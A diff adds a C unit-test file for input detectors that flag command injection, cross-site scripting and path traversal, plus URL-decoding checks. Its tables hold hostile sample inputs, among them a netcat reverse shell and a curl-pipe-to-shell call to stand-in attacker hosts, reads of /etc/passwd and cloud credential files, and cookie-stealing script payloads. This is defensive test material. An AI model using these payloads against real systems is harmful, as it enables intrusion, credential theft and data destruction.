@@ -1,0 +1,105 @@
+/* The event detectors: what each must flag and what ordinary text (prose
+ * with semicolons, ampersands, angle brackets, dotted paths) must pass. */
+#include <string.h>
+
+#include "detect.h"
+#include "unit.h"
+
+struct dcase {
+	const char *in;
+	bool flag;
+};
+
+typedef bool (*detector)(const char *, size_t, struct detect_hit *);
+
+static void run_table(detector d, const struct dcase *t, size_t n)
+{
+	for (size_t i = 0; i < n; i++) {
+		struct detect_hit h = { 0 };
+		bool got = d(t[i].in, strlen(t[i].in), &h);
+		CHECK_MSG(got == t[i].flag, t[i].in);
+		if (got)
+			CHECK_MSG(h.reason != NULL && h.offset < strlen(t[i].in), t[i].in);
+	}
+}
+
+UNIT_SUITE(detect_cmdi_table)
+{
+	static const struct dcase t[] = {
+		{ "127.0.0.1; cat /etc/passwd", true },
+		{ "x | nc attacker.example 4444 -e /bin/sh", true },
+		{ "a && curl http://evil.example/x.sh | sh", true },
+		{ "$(whoami)", true },
+		{ "`id`", true },
+		{ "name;id", true },
+		{ "file.txt\nrm -rf /", true },
+		{ "1 || ping -c 3 10.0.0.1", true },
+		{ "x;/bin/bash -i", true },
+		{ "x;${IFS}cat${IFS}/etc/passwd", true },
+		{ "x; sleep 5", true },
+		{ "foo|base64 -d", true },
+		{ "Tom & Jerry; cat videos are popular", false },
+		{ "Rock & roll; id est, the best", false },
+		{ "price: $5 (five dollars)", false },
+		{ "Terms; conditions & more", false },
+		{ "ls", false },
+		{ "https://example.com/?a=1&b=2", false },
+		{ "I like cats | dogs", false },
+		{ "", false },
+	};
+	run_table(detect_cmdi, t, sizeof t / sizeof t[0]);
+}
+
+UNIT_SUITE(detect_xss_table)
+{
+	static const struct dcase t[] = {
+		{ "<script>alert(1)</script>", true },
+		{ "<ScRiPt src=//evil.example/x.js>", true },
+		{ "<img src=x onerror=alert(1)>", true },
+		{ "<svg/onload=alert(1)>", true },
+		{ "<body onload = \"steal()\">", true },
+		{ "<a href=\"javascript:alert(document.cookie)\">x</a>", true },
+		{ "javascript:alert(1)", true },
+		{ "<iframe src=\"data:text/html,<b>\">", true },
+		{ "<div style=\"x\" onmouseover='go()'>", true },
+		{ "a < b and c > d", false },
+		{ "<b>bold</b> and <i>italic</i>", false },
+		{ "if (x<y) { return; }", false },
+		{ "the onion = vegetable", false },
+		{ "email me: <joe@example.com>", false },
+		{ "<p class=\"one\">online</p>", false },
+	};
+	run_table(detect_xss, t, sizeof t / sizeof t[0]);
+}
+
+UNIT_SUITE(detect_path_traversal_table)
+{
+	static const struct dcase t[] = {
+		{ "../../../../etc/passwd", true },
+		{ "..\\..\\windows\\win.ini", true },
+		{ "file=../../secret", true },
+		{ "../.aws/credentials", true },
+		{ "/etc/shadow", true },
+		{ "name=/proc/self/environ", true },
+		{ "\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc", true },
+		{ "images/../../../", true },
+		{ "see ../docs/readme.md", false },
+		{ "version 1.2.3..4", false },
+		{ "wait... what?", false },
+		{ "/home/user/project/file.txt", false },
+		{ "etc/passwords are weak", false },
+		{ "the path ./build/out", false },
+	};
+	run_table(detect_path_traversal, t, sizeof t / sizeof t[0]);
+	struct detect_hit h;
+	CHECK(detect_path_traversal("a.txt\0.jpg", 10, &h)); /* NUL truncation */
+}
+
+UNIT_SUITE(detect_url_decode_cases)
+{
+	char out[64];
+	size_t n = detect_url_decode("a%20b+c%2e%2E%2f%zz%4", 21, out, true);
+	CHECK(n == 13 && memcmp(out, "a b c../%zz%4", 13) == 0);
+	n = detect_url_decode("a+b", 3, out, false);
+	CHECK(n == 3 && memcmp(out, "a+b", 3) == 0);
+}
